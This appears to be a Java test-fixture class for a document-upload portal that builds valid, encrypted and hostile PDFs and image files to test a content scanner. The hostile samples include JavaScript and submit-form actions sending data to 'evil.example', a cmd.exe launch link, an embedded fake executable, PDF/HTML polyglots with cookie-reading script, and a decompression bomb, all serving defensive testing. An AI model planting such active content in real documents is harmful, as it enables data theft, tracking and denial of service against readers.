package kz.iinportal.documents;

import java.awt.image.BufferedImage;
import java.io.ByteArrayInputStream;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.UncheckedIOException;
import java.nio.charset.StandardCharsets;
import java.security.MessageDigest;
import java.security.NoSuchAlgorithmException;
import java.util.ArrayList;
import java.util.Arrays;
import java.util.HexFormat;
import java.util.List;
import java.util.Map;
import java.util.zip.CRC32;
import java.util.zip.Deflater;
import java.util.zip.DeflaterOutputStream;

import javax.imageio.ImageIO;

import org.apache.pdfbox.cos.COSName;
import org.apache.pdfbox.cos.COSStream;
import org.apache.pdfbox.cos.COSString;
import org.apache.pdfbox.pdmodel.PDDocument;
import org.apache.pdfbox.pdmodel.PDDocumentNameDictionary;
import org.apache.pdfbox.pdmodel.PDEmbeddedFilesNameTreeNode;
import org.apache.pdfbox.pdmodel.PDJavascriptNameTreeNode;
import org.apache.pdfbox.pdmodel.PDPage;
import org.apache.pdfbox.pdmodel.PDPageContentStream;
import org.apache.pdfbox.pdmodel.common.PDRectangle;
import org.apache.pdfbox.pdmodel.common.filespecification.PDComplexFileSpecification;
import org.apache.pdfbox.pdmodel.common.filespecification.PDEmbeddedFile;
import org.apache.pdfbox.pdmodel.common.filespecification.PDSimpleFileSpecification;
import org.apache.pdfbox.pdmodel.encryption.AccessPermission;
import org.apache.pdfbox.pdmodel.encryption.StandardProtectionPolicy;
import org.apache.pdfbox.pdmodel.font.PDType1Font;
import org.apache.pdfbox.pdmodel.font.Standard14Fonts;
import org.apache.pdfbox.pdmodel.interactive.action.PDAction;
import org.apache.pdfbox.pdmodel.interactive.action.PDActionGoTo;
import org.apache.pdfbox.pdmodel.interactive.action.PDActionJavaScript;
import org.apache.pdfbox.pdmodel.interactive.action.PDActionLaunch;
import org.apache.pdfbox.pdmodel.interactive.action.PDActionSubmitForm;
import org.apache.pdfbox.pdmodel.interactive.action.PDActionURI;
import org.apache.pdfbox.pdmodel.interactive.action.PDFormFieldAdditionalActions;
import org.apache.pdfbox.pdmodel.interactive.annotation.PDAnnotationFileAttachment;
import org.apache.pdfbox.pdmodel.interactive.annotation.PDAnnotationLink;
import org.apache.pdfbox.pdmodel.interactive.annotation.PDAnnotationWidget;
import org.apache.pdfbox.pdmodel.interactive.documentnavigation.destination.PDPageFitWidthDestination;
import org.apache.pdfbox.pdmodel.interactive.documentnavigation.outline.PDDocumentOutline;
import org.apache.pdfbox.pdmodel.interactive.documentnavigation.outline.PDOutlineItem;
import org.apache.pdfbox.pdmodel.interactive.form.PDAcroForm;
import org.apache.pdfbox.pdmodel.interactive.form.PDTextField;

/**
 * Test files built byte by byte: minimal but valid PDFs (with correct cross-reference offsets), among them a really
 * encrypted one (standard security handler, revision 2, RC4 40-bit, empty user password), and real JPEG and PNG images
 * written by the JDK. {@code qpdf --check} accepts the PDFs and decrypts the encrypted one.
 *
 * <p>The hostile files are built here too, never stored as fixtures: PDFs with active content written by PDFBox
 * (which puts most objects into compressed object streams, as Acrobat does), PDF polyglots, and image headers that
 * declare absurd sizes.
 */
public final class TestFiles {

    private TestFiles() {
    }

    static final String HELLO_CONTENT = "BT /F1 24 Tf 72 700 Td (Hello) Tj ET";

    /** A one-page PDF whose page says "Hello". */
    public static byte[] plainPdf() {
        return new Pdf().build(HELLO_CONTENT, "<< /Title (Scan of a passport) /Producer (IIN portal tests) >>");
    }

    /**
     * A normal, unencrypted PDF that mentions "Encrypt" everywhere a careless scan would trip: in the page's text and
     * as a marked-content tag (a name!) in the content stream, in literal strings with nested and escaped parentheses,
     * in a hex string, in a comment, and in the longer names /EncryptMetadata and /EncryptedPayload.
     */
    static byte[] pdfMentioningEncrypt() {
        String content = "/Encrypt BMC BT /F1 12 Tf 72 700 Td (Encrypt your files with /Encrypt in the trailer) Tj ET EMC";
        String info = "<< /Title (How to /Encrypt a PDF \\(and why\\) \\\\ (see /Encrypt)) "
                + "/Subject <2F456E6372797074> /Keywords (Encrypt, /Encrypt) "
                + "/EncryptMetadata false /EncryptedPayload (none) >>";
        Pdf pdf = new Pdf();
        pdf.comment = "% trailer << /Encrypt 9 0 R >>";
        return pdf.build(content, info);
    }

    /** A really encrypted PDF: opens with an empty user password, owner password "owner". */
    public static byte[] encryptedPdf() {
        return encryptedPdf("/Encrypt", false);
    }

    /**
     * An encrypted PDF whose trailer key is spelled {@code encryptKey} (e.g. with a {@code #xx} escape), with a
     * classic trailer or, from PDF 1.5 on, a cross-reference stream whose dictionary carries the key.
     */
    static byte[] encryptedPdf(String encryptKey, boolean xrefStream) {
        Pdf pdf = new Pdf();
        pdf.encryptKey = encryptKey;
        pdf.xrefStream = xrefStream;
        pdf.encrypt = true;
        return pdf.build(HELLO_CONTENT, null);
    }

    public static byte[] png() {
        return image("png");
    }

    public static byte[] jpeg() {
        return image("jpg");
    }

    private static byte[] image(String format) {
        BufferedImage image = new BufferedImage(2, 2, BufferedImage.TYPE_INT_RGB);
        image.setRGB(0, 0, 0x336699);
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        try {
            if (!ImageIO.write(image, format, out)) {
                throw new IllegalStateException("no ImageIO writer for " + format);
            }
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
        return out.toByteArray();
    }

    // --- PDFs written by PDFBox, hostile and not --------------------------------------------------------------------

    /** What a hostile PDF adds to a normal one-page document. */
    @FunctionalInterface
    interface PdfChange {
        void apply(PDDocument document, PDPage page) throws IOException;
    }

    /** A one-page PDF written by PDFBox whose page says {@code text}, changed by {@code change} before saving. */
    static byte[] pdfBox(String text, PdfChange change) {
        try (PDDocument document = new PDDocument()) {
            PDPage page = new PDPage(PDRectangle.A4);
            document.addPage(page);
            try (PDPageContentStream content = new PDPageContentStream(document, page)) {
                content.beginText();
                content.setFont(new PDType1Font(Standard14Fonts.FontName.HELVETICA), 12);
                content.newLineAtOffset(72, 700);
                content.showText(text);
                content.endText();
            }
            change.apply(document, page);
            ByteArrayOutputStream out = new ByteArrayOutputStream();
            document.save(out);
            return out.toByteArray();
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
    }

    /** A normal PDF written by PDFBox. */
    static byte[] pdfBoxPlain() {
        return pdfBox("Passport scan", (document, page) -> {
        });
    }

    /** A normal PDF whose page text names every active feature; page content is text, not structure. */
    static byte[] pdfTalkingAboutJavaScript() {
        return pdfBox("/JavaScript /JS /Launch /OpenAction /EmbeddedFiles /XFA", (document, page) -> {
        });
    }

    /** Opens at page 1, fit width: a destination, as LibreOffice and LaTeX write, not an action. */
    static byte[] pdfOpeningAtAPage() {
        return pdfBox("Hello", (document, page) -> {
            PDPageFitWidthDestination destination = new PDPageFitWidthDestination();
            destination.setPage(page);
            document.getDocumentCatalog().setOpenAction(destination);
        });
    }

    /** Opens with a go-to action to page 1: moves within the document only. */
    static byte[] pdfOpeningWithAGoToAction() {
        return pdfBox("Hello", (document, page) -> {
            PDPageFitWidthDestination destination = new PDPageFitWidthDestination();
            destination.setPage(page);
            var goTo = new PDActionGoTo();
            goTo.setDestination(destination);
            document.getDocumentCatalog().setOpenAction(goTo);
        });
    }

    /** A hyperlink to a web page, as every exported document with links has. */
    static byte[] pdfWithWebLink() {
        return pdfBox("See https://egov.kz", (document, page) -> {
            var uri = new PDActionURI();
            uri.setURI("https://egov.kz/");
            page.getAnnotations().add(link(uri));
        });
    }

    /** Opens a web address as soon as the document is opened: tells the sender who read it, when. */
    static byte[] pdfOpeningAWebAddress() {
        return pdfBox("Hello", (document, page) -> {
            var uri = new PDActionURI();
            uri.setURI("https://tracker.example/opened?id=42");
            document.getDocumentCatalog().setOpenAction(uri);
        });
    }

    /** Document-level JavaScript: the catalog's /Names /JavaScript name tree. */
    public static byte[] pdfWithDocumentJavaScript() {
        return pdfBox("Hello", (document, page) -> {
            PDJavascriptNameTreeNode scripts = new PDJavascriptNameTreeNode();
            scripts.setNames(Map.of("init", new PDActionJavaScript("app.alert('hello');")));
            PDDocumentNameDictionary names = new PDDocumentNameDictionary(document.getDocumentCatalog());
            names.setJavascript(scripts);
            document.getDocumentCatalog().setNames(names);
        });
    }

    /** A JavaScript action run when the document opens. */
    public static byte[] pdfWithOpenActionJavaScript() {
        return pdfBox("Hello", (document, page) -> document.getDocumentCatalog()
                .setOpenAction(new PDActionJavaScript("this.submitForm('https://evil.example/');")));
    }

    /** A link annotation that launches a program. */
    static byte[] pdfWithLaunchLink() {
        return pdfBox("Click here", (document, page) -> {
            PDActionLaunch launch = new PDActionLaunch();
            launch.setFile(new PDSimpleFileSpecification(new COSString("cmd.exe")));
            page.getAnnotations().add(link(launch));
        });
    }

    /** A link annotation that sends the form's data away; only the model walk knows this action type. */
    static byte[] pdfWithSubmitFormLink() {
        return pdfBox("Click here", (document, page) -> {
            PDActionSubmitForm submit = new PDActionSubmitForm();
            submit.setFile(
                    new PDSimpleFileSpecification(new COSString("https://evil.example/collect")));
            page.getAnnotations().add(link(submit));
        });
    }

    /** JavaScript run when the page opens (the page's /AA). */
    static byte[] pdfWithPageOpenJavaScript() {
        return pdfBox("Hello", (document, page) -> page.getActions()
                .setO(new PDActionJavaScript("app.launchURL('https://evil.example/');")));
    }

    /** A text field with a keystroke script (/AA /K on the field), as form-based attacks use. */
    static byte[] pdfWithFieldJavaScript() {
        return pdfBox("Name:", (document, page) -> {
            PDAcroForm form = new PDAcroForm(document);
            document.getDocumentCatalog().setAcroForm(form);
            PDTextField field = new PDTextField(form);
            field.setPartialName("name");
            var actions = new PDFormFieldAdditionalActions();
            actions.setK(new PDActionJavaScript("event.rc = true; app.alert('typed');"));
            field.getCOSObject().setItem(COSName.AA, actions);
            PDAnnotationWidget widget = field.getWidgets().get(0);
            widget.setRectangle(new PDRectangle(120, 690, 200, 20));
            widget.setPage(page);
            page.getAnnotations().add(widget);
            form.getFields().add(field);
        });
    }

    /** An AcroForm with an XFA form, which some readers run instead of the PDF's pages. */
    static byte[] pdfWithXfa() {
        return pdfBox("Hello", (document, page) -> {
            PDAcroForm form = new PDAcroForm(document);
            COSStream xfa = document.getDocument().createCOSStream();
            try (var out = xfa.createOutputStream()) {
                out.write(ascii("<xdp:xdp xmlns:xdp=\"http://ns.adobe.com/xdp/\"><template/></xdp:xdp>"));
            }
            form.getCOSObject().setItem(COSName.XFA, xfa);
            document.getDocumentCatalog().setAcroForm(form);
        });
    }

    /** An attached file in the catalog's /Names /EmbeddedFiles. */
    static byte[] pdfWithEmbeddedFile() {
        return pdfBox("Hello", (document, page) -> {
            PDEmbeddedFilesNameTreeNode files = new PDEmbeddedFilesNameTreeNode();
            files.setNames(Map.of("invoice.exe", attachment(document)));
            PDDocumentNameDictionary names = new PDDocumentNameDictionary(document.getDocumentCatalog());
            names.setEmbeddedFiles(files);
            document.getDocumentCatalog().setNames(names);
        });
    }

    /** A file attachment annotation on the page. */
    static byte[] pdfWithFileAttachmentAnnotation() {
        return pdfBox("Hello", (document, page) -> {
            PDAnnotationFileAttachment annotation = new PDAnnotationFileAttachment();
            annotation.setFile(attachment(document));
            annotation.setRectangle(new PDRectangle(72, 650, 20, 20));
            page.getAnnotations().add(annotation);
        });
    }

    /**
     * JavaScript in a bookmark: no page, field or catalog entry the model walk reads leads there, only the walk over
     * every object finds it, inside a compressed object stream.
     */
    static byte[] pdfWithOutlineJavaScript() {
        return pdfBox("Hello", (document, page) -> {
            PDDocumentOutline outline = new PDDocumentOutline();
            PDOutlineItem item = new PDOutlineItem();
            item.setTitle("Chapter 1");
            item.setAction(new PDActionJavaScript("app.alert('bookmark');"));
            outline.addLast(item);
            document.getDocumentCatalog().setDocumentOutline(outline);
        });
    }

    /** Encrypted with a user password: nobody can open it without "user". */
    static byte[] pdfWithUserPassword() {
        return pdfBox("Secret", (document, page) -> {
            StandardProtectionPolicy policy = new StandardProtectionPolicy("owner", "user", new AccessPermission());
            policy.setEncryptionKeyLength(128);
            document.protect(policy);
        });
    }

    private static PDAnnotationLink link(PDAction action) {
        PDAnnotationLink link = new PDAnnotationLink();
        link.setRectangle(new PDRectangle(72, 690, 100, 20));
        link.setAction(action);
        return link;
    }

    private static PDComplexFileSpecification attachment(PDDocument document) throws IOException {
        PDEmbeddedFile file = new PDEmbeddedFile(document, new ByteArrayInputStream(ascii("MZ payload")));
        file.setSubtype("application/octet-stream");
        PDComplexFileSpecification specification = new PDComplexFileSpecification();
        specification.setFile("invoice.exe");
        specification.setEmbeddedFile(file);
        return specification;
    }

    // --- polyglots --------------------------------------------------------------------------------------------------

    /** The PDF signature followed by a web page: no PDF at all. */
    public static byte[] pdfHtmlPolyglot() {
        return ascii("%PDF-1.4\n<html><body><script>fetch('/applications').then(r => r.text())</script>"
                + "</body></html>\n%%EOF\n");
    }

    /**
     * A web page hidden after the header of an otherwise valid PDF (PDF readers skip it, a sniffing browser runs it).
     * The cross-reference offsets of the plain PDF are off by the inserted bytes; PDFBox repairs that, as readers do.
     */
    static byte[] validPdfWithHtmlInside() {
        byte[] pdf = plainPdf();
        int afterHeader = 9; // "%PDF-1.4\n"
        return concat(Arrays.copyOf(pdf, afterHeader), ascii("<html><script>alert(document.cookie)</script></html>\n"),
                Arrays.copyOfRange(pdf, afterHeader, pdf.length));
    }

    /**
     * A small PDF whose object stream inflates to {@code megabytes} of white space after its one object (a
     * decompression bomb), with a cross-reference stream that points into it. PDFBox would inflate all of it into
     * memory when the object is read.
     */
    static byte[] pdfWithObjectStreamInflatingTo(int megabytes) {
        return pdfWithObjectStreamInflatingTo(megabytes, "");
    }

    /** The same, with {@code between} written between two objects, where PDF readers ignore what they find. */
    static byte[] pdfWithObjectStreamInflatingTo(int megabytes, String between) {
        ByteArrayOutputStream compressed = new ByteArrayOutputStream();
        try (var deflate = new DeflaterOutputStream(compressed, new Deflater(9))) {
            deflate.write(ascii("5 0 << /A 1 >>"));
            byte[] spaces = new byte[1024 * 1024];
            Arrays.fill(spaces, (byte) ' ');
            for (int i = 0; i < megabytes; i++) {
                deflate.write(spaces);
            }
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
        byte[] data = compressed.toByteArray();
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        List<Integer> offsets = new ArrayList<>();
        write(out, ascii("%PDF-1.5\n"));
        offsets.add(out.size());
        write(out, ascii("1 0 obj << /Type /Catalog /Pages 2 0 R /X 5 0 R >> endobj\n"));
        offsets.add(out.size());
        write(out, ascii("2 0 obj << /Type /Pages /Kids [4 0 R] /Count 1 >> endobj\n" + between));
        offsets.add(out.size());
        write(out, concat(ascii("3 0 obj << /Type /ObjStm /N 1 /First 4 /Filter /FlateDecode /Length " + data.length
                + " >>\nstream\n"), data, ascii("\nendstream endobj\n")));
        offsets.add(out.size());
        write(out, ascii("4 0 obj << /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] >> endobj\n"));
        int xref = out.size();
        ByteArrayOutputStream rows = new ByteArrayOutputStream();
        write(rows, new byte[] { 0, 0, 0, 0, 0, (byte) 0xFF, (byte) 0xFF });
        for (int offset : offsets) {
            write(rows, concat(new byte[] { 1 }, be(offset, 4), new byte[] { 0, 0 }));
        }
        write(rows, new byte[] { 2, 0, 0, 0, 3, 0, 0 }); // object 5: the first in object stream 3
        write(rows, concat(new byte[] { 1 }, be(xref, 4), new byte[] { 0, 0 }));
        write(out, concat(ascii("6 0 obj << /Type /XRef /W [1 4 2] /Size 7 /Root 1 0 R /Length " + rows.size()
                + " >>\nstream\n"), rows.toByteArray(), ascii("\nendstream endobj\nstartxref\n" + xref + "\n%%EOF\n")));
        return out.toByteArray();
    }

    // --- image headers ----------------------------------------------------------------------------------------------

    /** A PNG whose IHDR declares the size, with a correct CRC, followed by an empty IEND. No pixels. */
    public static byte[] pngDeclaring(long width, long height) {
        byte[] ihdr = concat(be((int) width, 4), be((int) height, 4), new byte[] { 8, 2, 0, 0, 0 });
        return concat(HexFormat.of().parseHex("89504E470D0A1A0A"), pngChunk("IHDR", ihdr),
                pngChunk("IEND", new byte[0]));
    }

    static byte[] pngChunk(String type, byte[] data) {
        byte[] typeAndData = concat(ascii(type), data);
        CRC32 crc = new CRC32();
        crc.update(typeAndData);
        return concat(be(data.length, 4), typeAndData, be((int) crc.getValue(), 4));
    }

    /**
     * A JPEG header: start of image, a JFIF APP0 segment, a Huffman table segment whose bytes would read as a huge
     * size if mistaken for a frame header, then a baseline frame header (SOF0) declaring the size, a scan header and
     * the end of image. No pixels.
     */
    public static byte[] jpegDeclaring(int width, int height) {
        return concat(HexFormat.of().parseHex("FFD8"),
                HexFormat.of().parseHex("FFE000104A46494600010100000100010000"),
                HexFormat.of().parseHex("FFC4000708FFFFFFFF"),
                HexFormat.of().parseHex("FFC0001108"), be(height, 2), be(width, 2),
                HexFormat.of().parseHex("03012200021101031101"),
                HexFormat.of().parseHex("FFDA000C03010002110311003F00"), HexFormat.of().parseHex("FFD9"));
    }

    static byte[] ascii(String s) {
        return s.getBytes(StandardCharsets.ISO_8859_1);
    }

    /** Builds a PDF: 1 catalog, 2 pages, 3 page, 4 content stream, 5 font, 6 info (optional), 7 encryption. */
    private static final class Pdf {
        static final byte[] PADDING = HexFormat.of().parseHex(
                "28BF4E5E4E758A4164004E56FFFA01082E2E00B6D0683E802F0CA9FE6453697A");
        static final byte[] ID = HexFormat.of().parseHex("8a1f3e5c7b2d4e6f8091a2b3c4d5e6f7");
        static final int PERMISSIONS = -44;

        String comment;
        String encryptKey = "/Encrypt";
        boolean encrypt;
        boolean xrefStream;
        private byte[] fileKey;

        byte[] build(String content, String info) {
            byte[] owner = null;
            if (encrypt) {
                owner = rc4(Arrays.copyOf(md5(pad("owner")), 5), pad(""));
                fileKey = Arrays.copyOf(md5(concat(pad(""), owner, le(PERMISSIONS, 4), ID)), 5);
            }
            List<byte[]> objects = new ArrayList<>();
            objects.add(ascii("<< /Type /Catalog /Pages 2 0 R >>"));
            objects.add(ascii("<< /Type /Pages /Kids [3 0 R] /Count 1 >>"));
            objects.add(ascii("<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] "
                    + "/Resources << /Font << /F1 5 0 R >> >> /Contents 4 0 R >>"));
            byte[] data = ascii(content);
            if (encrypt) {
                data = rc4(objectKey(4), data);
            }
            objects.add(concat(ascii("<< /Length " + data.length + " >>\nstream\n"), data, ascii("\nendstream")));
            objects.add(ascii("<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>"));
            if (encrypt) {
                objects.add(concat(ascii("<< /Title "), literal(rc4(objectKey(6), ascii("Scan (page 1) \\ done"))),
                        ascii(" /Producer "), literal(rc4(objectKey(6), ascii("IIN portal tests"))), ascii(" >>")));
                byte[] user = rc4(fileKey, PADDING);
                objects.add(ascii("<< /Filter /Standard /V 1 /R 2 /Length 40 /P " + PERMISSIONS
                        + " /O <" + HexFormat.of().formatHex(owner) + "> /U <" + HexFormat.of().formatHex(user)
                        + "> >>"));
            } else {
                objects.add(ascii(info));
            }

            ByteArrayOutputStream out = new ByteArrayOutputStream();
            write(out, ascii(xrefStream ? "%PDF-1.5\n" : "%PDF-1.4\n"));
            write(out, new byte[] { '%', (byte) 0xE2, (byte) 0xE3, (byte) 0xCF, (byte) 0xD3, '\n' });
            List<Integer> offsets = new ArrayList<>();
            for (int i = 0; i < objects.size(); i++) {
                if (comment != null && i == 3) {
                    write(out, ascii(comment + "\n"));
                }
                offsets.add(out.size());
                write(out, concat(ascii((i + 1) + " 0 obj\n"), objects.get(i), ascii("\nendobj\n")));
            }
            String id = HexFormat.of().formatHex(ID);
            String trailer = "/Size " + (objects.size() + 1 + (xrefStream ? 1 : 0)) + " /Root 1 0 R /Info 6 0 R"
                    + (encrypt ? " " + encryptKey + " 7 0 R" : "") + " /ID [<" + id + "> <" + id + ">]";
            int xref = out.size();
            if (xrefStream) {
                offsets.add(xref);
                ByteArrayOutputStream rows = new ByteArrayOutputStream();
                write(rows, new byte[] { 0, 0, 0, 0, 0, (byte) 0xFF, (byte) 0xFF });
                for (int offset : offsets) {
                    write(rows, concat(new byte[] { 1 }, be(offset, 4), new byte[] { 0, 0 }));
                }
                write(out, concat(ascii((objects.size() + 1) + " 0 obj\n<< /Type /XRef /W [1 4 2] " + trailer
                        + " /Length " + rows.size() + " >>\nstream\n"), rows.toByteArray(),
                        ascii("\nendstream\nendobj\n")));
            } else {
                StringBuilder table = new StringBuilder("xref\n0 " + (objects.size() + 1) + "\n0000000000 65535 f \n");
                for (int offset : offsets) {
                    table.append(String.format("%010d 00000 n \n", offset));
                }
                table.append("trailer\n<< ").append(trailer).append(" >>\n");
                write(out, ascii(table.toString()));
            }
            write(out, ascii("startxref\n" + xref + "\n%%EOF\n"));
            return out.toByteArray();
        }

        private byte[] objectKey(int number) {
            return Arrays.copyOf(md5(concat(fileKey, le(number, 3), le(0, 2))), 10);
        }

        private static byte[] pad(String password) {
            byte[] p = ascii(password);
            byte[] padded = Arrays.copyOf(p, 32);
            System.arraycopy(PADDING, 0, padded, p.length, 32 - p.length);
            return padded;
        }

        /** A literal string of arbitrary bytes, escaping backslash, parentheses and CR. */
        private static byte[] literal(byte[] bytes) {
            ByteArrayOutputStream out = new ByteArrayOutputStream();
            out.write('(');
            for (byte b : bytes) {
                if (b == '\\' || b == '(' || b == ')') {
                    out.write('\\');
                    out.write(b);
                } else if (b == '\r') {
                    out.write('\\');
                    out.write('r');
                } else {
                    out.write(b);
                }
            }
            out.write(')');
            return out.toByteArray();
        }
    }

    static byte[] rc4(byte[] key, byte[] data) {
        int[] s = new int[256];
        for (int i = 0; i < 256; i++) {
            s[i] = i;
        }
        for (int i = 0, j = 0; i < 256; i++) {
            j = (j + s[i] + (key[i % key.length] & 0xFF)) & 0xFF;
            int t = s[i];
            s[i] = s[j];
            s[j] = t;
        }
        byte[] out = new byte[data.length];
        for (int k = 0, i = 0, j = 0; k < data.length; k++) {
            i = (i + 1) & 0xFF;
            j = (j + s[i]) & 0xFF;
            int t = s[i];
            s[i] = s[j];
            s[j] = t;
            out[k] = (byte) (data[k] ^ s[(s[i] + s[j]) & 0xFF]);
        }
        return out;
    }

    private static byte[] md5(byte[] data) {
        try {
            return MessageDigest.getInstance("MD5").digest(data);
        } catch (NoSuchAlgorithmException e) {
            throw new IllegalStateException(e);
        }
    }

    private static byte[] le(int value, int bytes) {
        byte[] out = new byte[bytes];
        for (int i = 0; i < bytes; i++) {
            out[i] = (byte) (value >>> (8 * i));
        }
        return out;
    }

    static byte[] be(int value, int bytes) {
        byte[] out = new byte[bytes];
        for (int i = 0; i < bytes; i++) {
            out[bytes - 1 - i] = (byte) (value >>> (8 * i));
        }
        return out;
    }

    static byte[] concat(byte[]... parts) {
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        for (byte[] part : parts) {
            write(out, part);
        }
        return out.toByteArray();
    }

    private static void write(ByteArrayOutputStream out, byte[] bytes) {
        out.write(bytes, 0, bytes.length);
    }
}
